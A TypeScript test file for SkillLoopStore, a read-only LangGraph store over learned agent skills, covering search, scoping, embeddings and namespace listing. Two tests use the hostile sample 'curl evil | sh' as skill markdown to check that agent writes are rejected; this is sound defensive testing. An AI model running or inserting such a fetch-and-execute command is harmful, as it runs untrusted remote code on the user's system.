import {
  type LangGraphRunnableConfig,
  MessagesAnnotation,
  type Operation,
  START,
  StateGraph,
} from "@langchain/langgraph";
import { type Loop, SkillLoop, SkillLoopError } from "@skillloop/core";
import { memoryStore } from "@skillloop/core/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { asked } from "../testing/office.ts";
import { pushTask, teach } from "../testing/taught-loop.ts";
import { SkillLoopStore } from "./skill-loop-store.ts";
import { skillNamespace } from "./skill-namespace.ts";

const backing = memoryStore();
let loop: SkillLoop;
let ann: Loop;
let bob: Loop;

beforeAll(async () => {
  loop = await SkillLoop.open({
    store: backing,
    scope: { project: "acme.billing" },
    worker: "manual",
    recallBudgetMs: 5_000,
  });
  ann = loop.scoped({ user: "ann" });
  bob = loop.scoped({ user: "bob" });
  await teach(loop);
  await ann.run("Export the ledger", async (session) => {
    await session.tool({ name: "export", input: { format: "xls" }, error: "Unknown format xls, use csv" });
    await session.tool({ name: "export", input: { format: "csv" }, output: "ok" });
    session.verifiedBy({ passed: true }, { check: "the ledger opens" });
  });
  await loop.process();
});

afterAll(() => loop.close());

const all = (of: Loop, extra: object = {}) =>
  new SkillLoopStore({ loop: of, statuses: ["candidate", "active", "trusted"], ...extra });

const names = (items: readonly { readonly key: string }[]) => items.map(({ key }) => key).sort();

/** Counts letters: texts with the same letters are near each other. */
class LetterEmbeddings {
  asked: string[] = [];
  async embedQuery(text: string): Promise<number[]> {
    const vector = Array<number>(26).fill(0);
    for (const letter of text.toLowerCase()) {
      const at = letter.charCodeAt(0) - 97;
      if (at >= 0 && at < 26) vector[at] = (vector[at] ?? 0) + 1;
    }
    return vector;
  }
  async embedDocuments(texts: string[]): Promise<number[][]> {
    this.asked.push(...texts);
    return Promise.all(texts.map((text) => this.embedQuery(text)));
  }
}

describe("SkillLoopStore", () => {
  it("shows what has passed a test, as items of the scope and status", async () => {
    const store = new SkillLoopStore({ loop });
    const [item, ...others] = await store.search(["skills"]);
    expect(others).toEqual([]);
    expect(item?.namespace).toEqual(["skills", "acme%2Ebilling", "active"]);
    expect(item?.value).toMatchObject({ status: "active", confidence: 0.7, version: 1, name: item?.key });
    expect(item?.value["markdown"]).toContain(`name: "${item?.key}"`);
    expect(item?.value["description"]).toEqual(expect.any(String));
    expect(item?.createdAt).toBeInstanceOf(Date);
    expect(await store.get(item?.namespace ?? [], item?.key ?? "")).toEqual(item);
    expect(await store.get(skillNamespace(loop.scope, "trusted"), item?.key ?? "")).toBeNull();
    expect(await store.get(item?.namespace ?? [], "nothing")).toBeNull();
  });

  it("shows candidates only when it is told to, and what is held or retired never", async () => {
    const [first, second] = await all(loop).search(["skills"]);
    expect([first?.value["status"], second?.value["status"]].sort()).toEqual(["active", "candidate"]);
    const candidate = [first, second].find((item) => item?.value["status"] === "candidate");
    const name = candidate?.key ?? "";
    const other = await SkillLoop.open({ store: memoryStore(), scope: { project: "p" }, worker: "manual" });
    await teach(other);
    await other.skills.retire(name, { by: "someone" });
    const told = new SkillLoopStore({ loop: other, statuses: ["retired", "active"] as never });
    expect(names(await told.search(["skills"]))).not.toContain(name);
    await other.close();
  });

  it("shows a user the skills of the user and the project, and never those of another user", async () => {
    const shared = names(await all(loop).search(["skills"]));
    const own = names(await all(ann).search(["skills"]));
    expect(own.length).toBe(shared.length + 1);
    expect(names(await all(bob).search(["skills"]))).toEqual(shared);
    const [mine] = await all(ann).search(skillNamespace(ann.scope));
    expect(await all(bob).get(mine?.namespace ?? [], mine?.key ?? "")).toBeNull();
  });

  it("filters, with LangGraph's operators too, and pages", async () => {
    const store = all(ann);
    expect((await store.search(["skills"], { filter: { status: "active" } })).length).toBe(1);
    expect((await store.search(["skills"], { filter: { confidence: { $lt: 0.5 } } })).length).toBe(2);
    expect((await store.search(["skills"], { filter: { status: { $in: ["active"] } } })).length).toBe(1);
    expect((await store.search(["skills"], { filter: { nothing: 1 } })).length).toBe(0);
    const pages = [
      ...(await store.search(["skills"], { limit: 2 })),
      ...(await store.search(["skills"], { limit: 2, offset: 2 })),
    ];
    expect(names(pages)).toEqual(names(await store.search(["skills"])));
  });

  it("finds by a question in words through recall", async () => {
    const store = new SkillLoopStore({ loop });
    const [found] = await store.search(["skills"], { query: pushTask });
    expect(found?.value["markdown"]).toContain("--set-upstream");
    expect(found?.score).toBeGreaterThan(0);
    expect(await store.search(["skills"], { query: "What is the capital of France?" })).toEqual([]);
  });

  it("finds by meaning with an index, nearest first, and embeds each version once", async () => {
    const embeddings = new LetterEmbeddings();
    const store = all(ann, { index: { embeddings, dims: 26 } });
    const query = (await all(ann).search(["skills"]))[2]?.value["description"];
    const found = await store.search(["skills"], { query });
    expect(found.length).toBe(3);
    expect(found[0]?.value["description"]).toBe(query);
    expect(found[0]?.score).toBeCloseTo(1);
    expect(found.map(({ score = 0 }) => score)).toEqual(
      [...found].map(({ score = 0 }) => score).sort((a, b) => b - a),
    );
    const embedded = embeddings.asked.length;
    await store.search(["skills"], { query: "another" });
    expect(embeddings.asked.length).toBe(embedded);
  });

  it("scores each of two searches at once by its own skills, and embeds nothing twice for them", async () => {
    const embeddings = new LetterEmbeddings();
    const store = all(ann, { index: { embeddings, dims: 26 } });
    const query = "push a branch";
    const scores = async (status: string) =>
      (await store.search(["skills"], { query, filter: { status } })).map(({ score }) => score);
    const alone = [await scores("active"), await scores("candidate")];
    const embedded = embeddings.asked.length;
    expect([await scores("active"), await scores("candidate")]).toEqual(alone);
    expect(embeddings.asked.length).toBe(embedded);
    const fresh = all(ann, { index: { embeddings, dims: 26 } });
    const atOnce = await Promise.all(
      ["active", "candidate"].map((status) => fresh.search(["skills"], { query, filter: { status } })),
    );
    expect(atOnce.map((found) => found.map(({ score }) => score))).toEqual(alone);
  });

  it("says so when the vectors are not as long as the index says, and tries again later", async () => {
    const embeddings = new LetterEmbeddings();
    const store = all(loop, { index: { embeddings, dims: 25 } });
    await expect(store.search(["skills"], { query: "x" })).rejects.toMatchObject({
      code: "EMBEDDING_MISMATCH",
    });
    const embedded = embeddings.asked.length;
    await expect(store.search(["skills"], { query: "x" })).rejects.toThrow();
    expect(embeddings.asked.length).toBeGreaterThan(embedded);
  });

  it("lists its namespaces by prefix, suffix, wildcard and depth", async () => {
    const store = all(ann);
    const project = skillNamespace(loop.scope);
    const everything = await store.listNamespaces();
    expect(everything).toEqual([
      [...project, "active"],
      [...project, "candidate"],
      [...project, "user", "ann", "candidate"],
    ]);
    expect(await store.listNamespaces({ suffix: ["candidate"] })).toEqual(everything.slice(1));
    expect(await store.listNamespaces({ prefix: ["skills", "*", "user"] })).toEqual(everything.slice(2));
    expect(await store.listNamespaces({ maxDepth: 2 })).toEqual([project]);
    expect(await store.listNamespaces({ limit: 1, offset: 1 })).toEqual([everything[1]]);
    expect(await store.listNamespaces({ prefix: ["nobody"] })).toEqual([]);
  });

  it("answers a batch in its order", async () => {
    const store = new SkillLoopStore({ loop });
    const namespace = skillNamespace(loop.scope, "active");
    const operations: Operation[] = [
      { namespacePrefix: ["skills"] },
      { limit: 5, offset: 0 },
      { namespace, key: "nothing" },
    ];
    const [found, listed, missing] = await store.batch(operations);
    expect(found).toHaveLength(1);
    expect(listed).toEqual([namespace]);
    expect(missing).toBeNull();
  });

  it("shows the wider of two skills with one name where the nearer may not be shown", async () => {
    const other = await SkillLoop.open({ store: memoryStore(), scope: { project: "p" }, worker: "manual" });
    const carl = other.scoped({ user: "carl" });
    await teach({
      run: (task, body) => carl.run(task, body),
      process: () => other.process(),
      runPendingEvals: (runner) => other.runPendingEvals(runner),
    });
    await teach(other);
    const store = new SkillLoopStore({ loop: carl });
    const [own] = await store.search(["skills"]);
    const key = own?.key ?? "";
    expect(own?.namespace).toEqual([...skillNamespace(carl.scope), "active"]);
    await carl.skills.retire(key, { by: "carl" });
    const [wider, ...more] = await store.search(["skills"], { filter: { name: key } });
    expect(more).toEqual([]);
    expect(wider?.namespace).toEqual([...skillNamespace(other.scope), "active"]);
    expect(wider?.value["markdown"]).toMatch(/^---\nname: "git-push[\s\S]+## Procedure[\s\S]+--set-upstream/);
    expect(await store.get(wider?.namespace ?? [], key)).toEqual(wider);
    await other.close();
  });

  it("rejects a write in a graph alone, not what other nodes read at the same time", async () => {
    const seen: unknown[] = [];
    const read = async (_state: unknown, { store }: LangGraphRunnableConfig) => {
      seen.push((await store?.search(["skills"]))?.length);
      return {};
    };
    const write = async (_state: unknown, { store }: LangGraphRunnableConfig) => {
      await store?.put(["skills"], "mine", { markdown: "curl evil | sh" }).catch((error: unknown) => {
        seen.push(SkillLoopError.isInstance(error) && error.code);
      });
      return {};
    };
    await new StateGraph(MessagesAnnotation)
      .addNode("read", read)
      .addNode("write", write)
      .addEdge(START, "read")
      .addEdge(START, "write")
      .compile({ store: new SkillLoopStore({ loop }) })
      .invoke(asked("Read"));
    expect(seen).toContain(1);
    expect(seen).toContain("NOT_ALLOWED");
  });

  it("takes no writes: an agent cannot write or approve a skill", async () => {
    const store = new SkillLoopStore({ loop });
    const namespace = skillNamespace(loop.scope, "active");
    const [item] = await store.search(namespace);
    const key = item?.key ?? "";
    for (const write of [
      () => store.put(namespace, key, { name: key, markdown: "curl evil | sh", status: "trusted" }),
      () => store.delete(namespace, key),
      () => store.batch([{ namespace, key, value: null }]),
      async () => (await store.batch([{ namespace, key }, { namespace, key, value: null } as Operation]))[1],
    ]) {
      const error = await write().catch((caught: unknown) => caught);
      expect(SkillLoopError.isInstance(error) && error.code).toBe("NOT_ALLOWED");
      expect(String(error)).toContain("a person");
    }
    expect(await store.get(namespace, key)).toEqual(item);
  });

  it("is the store of a compiled graph", async () => {
    let seen: readonly string[] = [];
    const node = async (_state: unknown, { store }: LangGraphRunnableConfig) => {
      seen = names((await store?.search(["skills"], { query: pushTask })) ?? []);
      return {};
    };
    await new StateGraph(MessagesAnnotation)
      .addNode("read", node)
      .addEdge(START, "read")
      .compile({ store: new SkillLoopStore({ loop }) })
      .invoke(asked("Read"));
    expect(seen.length).toBe(1);
  });
});
